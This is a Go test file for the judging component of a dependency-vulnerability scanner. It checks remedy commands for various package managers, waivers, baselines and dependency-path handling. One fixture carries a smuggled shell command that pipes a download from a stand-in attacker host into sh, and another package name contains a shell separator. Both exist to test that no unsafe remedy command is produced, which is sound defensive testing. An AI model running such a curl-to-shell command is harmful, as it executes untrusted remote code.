package judge

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/kennel-oss/kennel"
	"github.com/kennel-oss/kennel/internal/config"
	"github.com/kennel-oss/kennel/internal/policy"
)

var day = time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)

// layer says what a test wants said of a component, by name.
type layer map[string]func(kennel.Component) ([]kennel.Finding, error)

func (layer) Name() string       { return "known" }
func (layer) Needs() kennel.Need { return 0 }
func (l layer) Examine(_ context.Context, s kennel.Subject) ([]kennel.Finding, error) {
	if say := l[s.Component.Name]; say != nil {
		return say(s.Component)
	}
	return nil, nil
}

func vulnerable(id, fixed string, change ...func(*kennel.Finding)) func(kennel.Component) ([]kennel.Finding, error) {
	return func(c kennel.Component) ([]kennel.Finding, error) {
		f := kennel.Finding{Rule: "vulnerable", ID: id, Component: c, Severity: kennel.SeverityHigh, Published: day.AddDate(0, 0, -10)}
		if fixed != "" {
			f.Fix = kennel.Fix{State: kennel.FixKnown, Version: fixed}
		}
		for _, ch := range change {
			ch(&f)
		}
		return []kennel.Finding{f}, nil
	}
}

// project builds a project from lines "from > to constraint"; from "." is the
// root. Every name is an npm package at 1.0.0.
func project(t testing.TB, lines ...string) kennel.Project {
	p := kennel.Project{Root: ".", Manifest: "package-lock.json", Ecosystem: kennel.NPM, Graph: true}
	node := map[string]int32{".": kennel.RootNode}
	at := func(name string) int32 {
		if _, ok := node[name]; !ok {
			node[name] = int32(len(p.Occurrences))
			p.Occurrences = append(p.Occurrences, kennel.Occurrence{Component: kennel.Component{
				Package: kennel.Package{Ecosystem: kennel.NPM, Name: name}, Version: "1.0.0"}, Scope: kennel.ScopeShipped, Direct: kennel.Transitive})
		}
		return node[name]
	}
	for _, line := range lines {
		words := strings.Fields(line)
		if len(words) < 3 {
			t.Fatalf("bad line %q", line)
		}
		e := kennel.Edge{From: at(words[0]), To: at(words[2]), Constraint: strings.Join(words[3:], " ")}
		if e.From == kennel.RootNode {
			p.Occurrences[e.To].Direct = kennel.Direct
		}
		p.Edges = append(p.Edges, e)
	}
	return p
}

func run(t testing.TB, l kennel.Layer, suppress []Suppressor, projects ...kennel.Project) kennel.Judgement {
	p, err := policy.Compile()
	if err != nil {
		t.Fatal(err)
	}
	inv := kennel.Inventory{Target: ".", Projects: projects}
	inv.Normalize()
	j, err := New(Options{Layers: []kennel.Layer{l}, Policy: p, Suppress: suppress}).Inventory(t.Context(), inv, day)
	if err != nil {
		t.Fatal(err)
	}
	return j
}

func names(p *kennel.Project, path []int32) string {
	var out []string
	for _, n := range path {
		out = append(out, p.Occurrences[n].Name)
	}
	return strings.Join(out, ">")
}

func TestViaAndRemedy(t *testing.T) {
	j := run(t, layer{"deep": vulnerable("CVE-1", "1.0.5")}, nil, project(t,
		". > a ^1.0.0", ". > b ^1.0.0", "a > mid ^1.0.0", "b > mid ^1.0.0", "mid > deep ~1.0.0", "a > deep ^1.0.0"))
	if len(j.Results) != 1 {
		t.Fatalf("got %d results", len(j.Results))
	}
	r := j.Results[0]
	p := &j.Inventory.Projects[0]
	var got []string
	for _, path := range r.Via.Paths {
		got = append(got, names(p, path))
	}
	if want := []string{"a>deep", "b>mid>deep"}; !slices.Equal(got, want) {
		t.Errorf("paths %v, want %v", got, want)
	}
	if r.Via.Count != 3 {
		t.Errorf("%d paths, want 3", r.Via.Count)
	}
	if r.Remedy.Kind != kennel.RemedyRefresh || r.Remedy.Command != "npm update deep" {
		t.Errorf("every dependant admits 1.0.5; got %+v", r.Remedy)
	}
	if r.Exposed != 10 {
		t.Errorf("exposed %d days", r.Exposed)
	}
}

func TestRemedies(t *testing.T) {
	for _, c := range []struct {
		name    string
		lines   []string
		fixed   string
		kind    kennel.RemedyKind
		pkg     string
		command string
	}{
		{"a dependant pins it", []string{". > a ^1.0.0", "a > deep 1.0.0"}, "1.0.5", kennel.RemedyUpgrade, "a", "npm install a@latest"},
		{"direct, not admitted", []string{". > deep ~1.0.0"}, "2.0.0", kennel.RemedyUpgrade, "deep", "npm install deep@2.0.0"},
		{"direct, constraint unknown", []string{". > deep"}, "2.0.0", kennel.RemedyUpgrade, "deep", "npm install deep@2.0.0"},
		{"transitive, constraint unknown", []string{". > a ^1", "a > deep"}, "2.0.0", kennel.RemedyUnknown, "", ""},
		{"no fix", []string{". > deep ^1"}, "", kennel.RemedyUnknown, "", ""},
		{"a version no shell should see", []string{". > deep ^1"}, "1.0.1;curl evil.example|sh", kennel.RemedyUpgrade, "deep", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			j := run(t, layer{"deep": vulnerable("CVE-1", c.fixed)}, nil, project(t, c.lines...))
			m := j.Results[0].Remedy
			if m.Kind != c.kind || m.Package.Name != c.pkg || m.Command != c.command {
				t.Errorf("got %+v", m)
			}
		})
	}
}

// Each tool is told in its own way; where no single command is right there is
// none.
func TestCommands(t *testing.T) {
	refresh, upgrade := []string{". > a ^1.0.0", "a > deep ^1.0.0"}, []string{". > deep ~1.0.0"}
	above := []string{". > a ^1.0.0", "a > mid ^1.0.0", "mid > deep 1.0.0"}
	for _, c := range []struct {
		manifest string
		lines    []string
		scope    kennel.Scope
		want     string
	}{
		{"package-lock.json", above, kennel.ScopeShipped, "npm install a@latest"},
		{"pnpm-lock.yaml", upgrade, kennel.ScopeShipped, "pnpm update deep@1.2.0"},
		{"yarn.lock", refresh, kennel.ScopeShipped, ""},
		{"yarn.lock", upgrade, kennel.ScopeDevelopment, "yarn add --dev deep@1.2.0"},
		{"Cargo.lock", refresh, kennel.ScopeShipped, "cargo update -p deep@1.0.0 --precise 1.2.0"},
		{"poetry.lock", above, kennel.ScopeShipped, "poetry update a mid deep"},
		{"poetry.lock", upgrade, kennel.ScopeShipped, "poetry add 'deep@>=1.2.0'"},
		{"poetry.lock", upgrade, kennel.ScopeDevelopment, ""},
		{"uv.lock", above, kennel.ScopeShipped, "uv lock --upgrade-package a --upgrade-package mid --upgrade-package deep"},
		{"Gemfile.lock", refresh, kennel.ScopeShipped, "bundle update --conservative deep"},
		{"Gemfile.lock", upgrade, kennel.ScopeShipped, ""},
		{"composer.lock", upgrade, kennel.ScopeDevelopment, "composer require --dev deep:^1.2.0"},
		{"requirements.txt", upgrade, kennel.ScopeShipped, ""},
	} {
		p := project(t, c.lines...)
		p.Manifest = "sub/" + c.manifest
		for i := range p.Occurrences {
			p.Occurrences[i].Scope = c.scope
		}
		j := run(t, layer{"deep": vulnerable("CVE-1", "1.2.0")}, nil, p)
		if got := j.Results[0].Remedy; got.Command != c.want {
			t.Errorf("%s, %v: %+v, want %q", c.manifest, c.lines, got, c.want)
		}
	}

	p := project(t, above...)
	p.Manifest, p.Occurrences[1].Name = "poetry.lock", "mid;evil"
	j := run(t, layer{"deep": vulnerable("CVE-1", "1.2.0")}, nil, p)
	if got := j.Results[0].Remedy; got.Command != "" {
		t.Errorf("a name that a shell would take apart: %+v", got)
	}
}

func TestMalwareIsRemovedAtItsRoot(t *testing.T) {
	j := run(t, layer{"evil": vulnerable("MAL-1", "", func(f *kennel.Finding) { f.Rule = "malicious" })}, nil,
		project(t, ". > a ^1", "a > evil ^1"))
	if r := j.Results[0]; r.Verdict != kennel.Deny || r.Remedy.Kind != kennel.RemedyRemove || r.Remedy.Package.Name != "a" {
		t.Errorf("got %s, %+v", r.Verdict, r.Remedy)
	}
}

func TestCyclesAndWideGraphsEnd(t *testing.T) {
	lines := []string{". > n0 ^1"}
	for i := range 60 { // 2^60 paths, and a cycle at each step
		lines = append(lines, fmt.Sprintf("n%d > l%d ^1", i, i), fmt.Sprintf("n%d > r%d ^1", i, i),
			fmt.Sprintf("l%d > n%d ^1", i, i+1), fmt.Sprintf("r%d > n%d ^1", i, i+1))
	}
	lines = append(lines, "n60 > deep ^1")
	j := run(t, layer{"deep": vulnerable("CVE-1", "")}, nil, project(t, lines...))
	if got := j.Results[0].Via.Count; got != kennel.ViaCountMax {
		t.Errorf("count %d is not capped", got)
	}
	lines = append(lines, "deep > n0 ^1", "deep > deep ^1")
	j = run(t, layer{"deep": vulnerable("CVE-1", "")}, nil, project(t, lines...))
	if v := j.Results[0].Via; v.Count != 1 || len(v.Paths) != 1 || len(v.Paths[0]) != 122 {
		t.Errorf("in one great cycle there is one way in; got count %d, %d paths", v.Count, len(v.Paths))
	}
}

func TestCouldNotLookIsNeverClean(t *testing.T) {
	could := func(kennel.Component) ([]kennel.Finding, error) {
		return nil, &kennel.CouldNotLook{Reason: "the database has no advisories for npm"}
	}
	panics := func(kennel.Component) ([]kennel.Finding, error) { panic("bad record") }
	j := run(t, layer{"a": could, "b": could, "c": panics}, nil, project(t, ". > a ^1", ". > b ^1", ". > c ^1", ". > d ^1"))
	if j.Complete || j.Verdict != kennel.Allow {
		t.Errorf("complete %v, verdict %s", j.Complete, j.Verdict)
	}
	var text []string
	for _, g := range j.Gaps {
		text = append(text, g.What+": "+g.Why)
	}
	all := strings.Join(text, "\n")
	if !strings.Contains(all, "2 components (such as a 1.0.0): the database has no advisories for npm") || !strings.Contains(all, "layer known failed (bad record)") {
		t.Errorf("gaps:\n%s", all)
	}
	for _, o := range j.Outcomes {
		if o.State == kennel.StateClear && o.Count != 1 {
			t.Errorf("%d components are clear, want 1", o.Count)
		}
	}
}

func TestWaivers(t *testing.T) {
	waive := func(id, purl, project string, until time.Time) *Waivers {
		w, err := NewWaivers("kennel.yaml", []config.Waiver{{IDs: []string{id}, Package: purl, Project: project, Reason: "r", By: "alice", Expires: until}})
		if err != nil {
			t.Fatal(err)
		}
		return w
	}
	later := day.AddDate(0, 1, 0)
	l := layer{"deep": vulnerable("CVE-1", "1.0.5", func(f *kennel.Finding) { f.Aliases = []string{"GHSA-1"}; f.KEV = &kennel.KEV{} })}
	for _, c := range []struct {
		name  string
		w     *Waivers
		holds bool
	}{
		{"by id", waive("CVE-1", "", "", later), true},
		{"by alias, package and version", waive("ghsa-1", "pkg:npm/deep@1.0.0", "", later), true},
		{"another version", waive("CVE-1", "pkg:npm/deep@2.0.0", "", later), false},
		{"another package", waive("CVE-1", "pkg:npm/other", "", later), false},
		{"a scoped namesake", waive("CVE-1", "pkg:npm/%40x/deep", "", later), false},
		{"by project", waive("CVE-1", "", "*.json", later), true},
		{"another project", waive("CVE-1", "", "web/**", later), false},
		{"over", waive("CVE-1", "", "", day), false},
	} {
		t.Run(c.name, func(t *testing.T) {
			j := run(t, l, []Suppressor{c.w}, project(t, ". > deep ^1"))
			want := kennel.Deny
			if c.holds {
				want = kennel.Allow
			}
			if j.Verdict != want || len(j.Results) != 1 || (j.Results[0].Suppressed != nil) != c.holds {
				t.Errorf("verdict %s, %d results, suppressed %v", j.Verdict, len(j.Results), j.Results[0].Suppressed)
			}
			if expired := c.w.Expired(&j); (len(expired) == 1) != (c.name == "over") {
				t.Errorf("expired %v", expired)
			}
		})
	}
	if _, err := NewWaivers("kennel.yaml", []config.Waiver{{IDs: []string{"CVE-1"}, Package: "lodash"}}); err == nil {
		t.Error("a package that is no purl passed")
	}
}

func TestBaseline(t *testing.T) {
	kev := func(f *kennel.Finding) { f.KEV = &kennel.KEV{} }
	evil := func(f *kennel.Finding) { f.Rule = "malicious" }
	b, err := ReadBaseline("last.json", []byte(`{"schema":"kennel.scan/1","findings":[
		{"rule":"vulnerable","id":"GHSA-1","aliases":[],"ecosystem":"npm","name":"deep","project":"package-lock.json","kev":null},
		{"rule":"vulnerable","id":"CVE-9","aliases":[],"ecosystem":"npm","name":"gone","project":"package-lock.json","kev":null},
		{"rule":"malicious","id":"MAL-1","aliases":[],"ecosystem":"npm","name":"evil","project":"package-lock.json","kev":null}]}`))
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name  string
		l     layer
		known bool
	}{
		{"known under another id", layer{"deep": vulnerable("CVE-1", "", func(f *kennel.Finding) { f.Aliases = []string{"GHSA-1"} })}, true},
		{"listed by KEV since", layer{"deep": vulnerable("GHSA-1", "", kev)}, false},
		{"malware", layer{"evil": vulnerable("MAL-1", "", evil)}, false},
		{"new", layer{"other": vulnerable("CVE-2", "")}, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			j := run(t, c.l, []Suppressor{b}, project(t, ". > deep ^1", ". > evil ^1", ". > other ^1"))
			if got := j.Results[0].Suppressed != nil; got != c.known {
				t.Errorf("suppressed: %v, want %v", got, c.known)
			}
			if info := b.Info(&j); info.Known+info.Gone != 3 {
				t.Errorf("got %+v", info)
			}
		})
	}
	for _, bad := range []string{"", "{", `{"schema":"other/1"}`, "[]"} {
		if _, err := ReadBaseline("x", []byte(bad)); err == nil || !strings.Contains(err.Error(), "kennel scan --format json") {
			t.Errorf("%q: %v", bad, err)
		}
	}
}

func TestFingerprintsOutliveVersions(t *testing.T) {
	l := layer{"deep": vulnerable("CVE-1", "")}
	a := project(t, ". > deep ^1")
	b := project(t, ". > deep ^1")
	b.Occurrences[0].Version = "1.0.1"
	x, y := run(t, l, nil, a).Results[0].Fingerprint, run(t, l, nil, b).Results[0].Fingerprint
	if x != y || len(x) != 32 {
		t.Errorf("%s and %s", x, y)
	}
}

func TestOrderAndTimingDoNotMatter(t *testing.T) {
	var lines []string
	l := layer{}
	for i := range 300 {
		lines = append(lines, fmt.Sprintf(". > n%d ^1", i))
		if i%3 == 0 {
			l[fmt.Sprintf("n%d", i)] = vulnerable(fmt.Sprintf("CVE-%d", i), "1.0.1")
		}
	}
	first := run(t, l, nil, project(t, lines...))
	for range 5 {
		rand.Shuffle(len(lines), func(i, k int) { lines[i], lines[k] = lines[k], lines[i] })
		if again := run(t, l, nil, project(t, lines...)); !reflect.DeepEqual(first, again) {
			t.Fatal("the same inventory gave another judgement")
		}
	}
}

func TestCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	_, err := New(Options{}).Inventory(ctx, kennel.Inventory{Projects: []kennel.Project{project(t, ". > a ^1")}}, day)
	if !errors.Is(err, context.Canceled) {
		t.Errorf("got %v", err)
	}
}

func FuzzBaseline(f *testing.F) {
	f.Add([]byte(`{"schema":"kennel.scan/1","findings":[{"rule":"vulnerable","id":"GHSA-1","aliases":["CVE-1"],"ecosystem":"npm","name":"deep","project":"p","kev":{"cve":"CVE-1"}}]}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		if b, err := ReadBaseline("x", data); err == nil {
			b.Suppress(&kennel.Result{}, &kennel.Project{}, day)
		}
	})
}

func BenchmarkInventory(b *testing.B) {
	lines := []string{". > n0 ^1"}
	l := layer{}
	for i := range 10_000 {
		lines = append(lines, fmt.Sprintf("n%d > n%d ^1", i/3, i+1))
		if i%100 == 0 {
			l[fmt.Sprintf("n%d", i)] = vulnerable(fmt.Sprintf("CVE-%d", i), "1.0.1")
		}
	}
	p := project(b, lines...)
	b.ReportAllocs()
	for b.Loop() {
		run(b, l, nil, p)
	}
}
